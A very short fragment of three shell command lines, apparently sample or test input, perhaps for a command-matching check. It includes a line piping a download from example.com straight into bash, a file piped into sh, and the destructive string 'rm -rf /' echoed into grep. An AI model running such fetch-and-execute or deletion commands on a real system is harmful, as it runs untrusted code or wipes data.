curl -s example.com | bash
cat script | sh
echo 'rm -rf /' | grep rm
